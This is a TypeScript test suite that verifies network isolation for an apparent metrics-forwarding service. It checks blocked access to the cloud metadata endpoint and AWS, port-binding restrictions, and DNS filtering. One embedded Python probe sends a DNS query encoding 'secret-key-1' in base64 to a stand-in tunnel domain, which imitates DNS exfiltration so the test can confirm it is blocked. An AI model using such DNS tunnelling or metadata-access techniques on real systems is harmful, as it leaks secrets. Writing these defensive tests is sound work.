import assert from "node:assert/strict";
import { ports } from "@metrics-link/release";
import { attempt } from "../support/attempts.ts";
import { startUnit, stopUnit } from "../support/outage.ts";
import { caughtUp } from "../support/samples.ts";
import { on } from "../support/sandbox.ts";
import { needs, world } from "../support/world.ts";

const units = {
  sender: { envoy: "envoy", prometheus: "prometheus", "node-exporter": "node-exporter", repair: "link-repair" },
  // The gate's user has no name that lasts.
  receiver: { envoy: "envoy", prometheus: "prometheus", "node-exporter": "node-exporter", gate: "nobody" },
} as const;

const metadata = ["169.254.169.254", 80] as const;
const ownPrometheus = ["127.0.0.1", ports.prometheus] as const;

describe("the network of a unit", function () {
  needs(world.link);
  this.timeout(1_200_000);

  for (const host of ["sender", "receiver"] as const) {
    it(`excludes the metadata service and AWS on the ${host}, for each unit`, async () => {
      const [secretsManager = ""] = (
        await on(host, "getent", "ahostsv4", "secretsmanager.eu-west-1.amazonaws.com")
      ).split(/\s/);
      const connect = [metadata, [secretsManager, 443], ownPrometheus] as const;
      // The same attempts outside of the units: what is refused in them is there.
      const open = await attempt(host, "nobody", { connect });
      assert.deepEqual(new Set(Object.values(open.connect)), new Set(["done"]), JSON.stringify(open));
      // Prometheus may speak to Alertmanagers, whose endpoints stand in the same subnets as those of AWS.
      for (const [unit, user] of Object.entries(units[host])) {
        const found = await attempt(host, user, { connect }, unit);
        const [imds, aws, own] = Object.values(found.connect);
        assert.equal(imds, "TimeoutError", `${unit}: ${JSON.stringify(found)}`);
        if (unit !== "prometheus") assert.equal(aws, "TimeoutError", `${unit}: ${JSON.stringify(found)}`);
        assert.equal(own, "done", `${unit}: ${JSON.stringify(found)}`);
      }
    });

    it(`has only the listed sockets on the ${host}`, async () => {
      for (const [unit, user] of Object.entries(units[host])) {
        const { bind } = await attempt(host, user, { bind: [0, 19_999] }, unit);
        assert.deepEqual(bind, { 0: "PermissionError", "19999": "PermissionError" }, unit);
      }
      assert.deepEqual((await attempt(host, "nobody", { bind: [19_999] })).bind, { "19999": "done" });
    });
  }
});

/** Asks each resolver for each name, over UDP as a program of a thief's would, and prints how many answers came as JSON. */
const queries = `
import json, socket, struct, sys
names, resolvers = json.loads(sys.argv[1])
def answers(name, resolver):
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", 1, 1), (resolver, 53))
        try:
            return struct.unpack(">H", one.recv(4096)[6:8])[0]
        except TimeoutError:
            return "no answer"
print(json.dumps([[answers(name, resolver) for resolver in resolvers] for name in names]))
`;

describe("the names that a host asks for", function () {
  needs(world.link);
  this.timeout(1_200_000);

  const region = "eu-west-1.amazonaws.com";
  const accounts = { sender: "111111111111", receiver: "222222222222" };
  const zones = { sender: 1, receiver: 2 };
  for (const host of ["sender", "receiver"] as const) {
    it(`are answered on the ${host} if it needs them, and carry nothing out otherwise`, async () => {
      const [nameserver = ""] = /\d+(\.\d+){3}/.exec(await on(host, "cat", "/etc/resolv.conf")) ?? [];
      // The last is a resolver on the internet, which a security group keeps away.
      const resolvers = [nameserver, "169.254.169.253", "192.0.2.100"];
      const needed = [`metrics-link-${host}-${accounts[host]}-eu-west-1.s3.${region}`, `ssm.${region}`];
      const strange = ["c2VjcmV0LWtleS0x.tunnel.outsider.example", `somebodys-bucket.s3.${region}`, `kms.${region}`];
      const found = JSON.parse(
        await on(host, "python3", "-c", queries, JSON.stringify([[...needed, ...strange], resolvers])),
      );
      assert.deepEqual(found, [
        // With the CNAME of a bucket.
        [2, 2, "no answer"],
        // An endpoint has an address in each zone.
        [zones[host], zones[host], "no answer"],
        ...strange.map(() => [0, 0, "no answer"]),
      ]);
    });
  }
});

describe("the ports of the link", function () {
  needs(world.link);
  this.timeout(1_200_000);

  const listened = {
    sender: [ports.prometheus, ports.remoteWriteEgress, ports.envoyMetrics, ports.nodeExporter],
    receiver: [ports.prometheus, ports.ingest, ports.ready, ports.envoyMetrics, ports.nodeExporter],
  };

  for (const host of ["sender", "receiver"] as const) {
    it(`cannot be taken by another user while nothing listens on the ${host}`, async () => {
      const stopped = ["metrics-link-envoy", "metrics-link-prometheus", "metrics-link-node-exporter"];
      for (const unit of stopped) await stopUnit(host, unit);
      try {
        const asked = { bind: listened[host] };
        const { bind } = await attempt(host, "nobody", asked);
        assert.deepEqual(new Set(Object.values(bind)), new Set(["PermissionError"]), JSON.stringify(bind));
        // A service may take its own and no other's, with the capability that its unit has.
        const root = await attempt(host, "root", asked);
        assert.deepEqual(new Set(Object.values(root.bind)), new Set(["done"]), JSON.stringify(root));
      } finally {
        for (const unit of stopped.toReversed()) await startUnit(host, unit);
      }
      await caughtUp(Date.now() / 1000);
    });
  }

  it("are reserved before a service starts, and free again without the unit", async () => {
    const limit = () => on("receiver", "cat", "/proc/sys/net/ipv4/ip_unprivileged_port_start");
    assert.equal((await limit()).trim(), "9903");
    // As the agent does when it goes back to a release without this unit, whose services could not bind otherwise.
    await on("receiver", "systemctl", "stop", "metrics-link-ports");
    try {
      assert.equal((await limit()).trim(), "1024");
    } finally {
      await on("receiver", "systemctl", "start", "metrics-link-ports");
    }
    assert.equal((await limit()).trim(), "9903");
    const order = await on("receiver", "systemctl", "show", "--property=After", "--value", "metrics-link-envoy");
    assert.ok(order.split(/\s+/).includes("metrics-link-ports.service"), order);
    assert.equal(
      (await on("receiver", "systemctl", "show", "--property=WantedBy", "--value", "metrics-link-ports")).trim(),
      "multi-user.target",
    );
  });
});
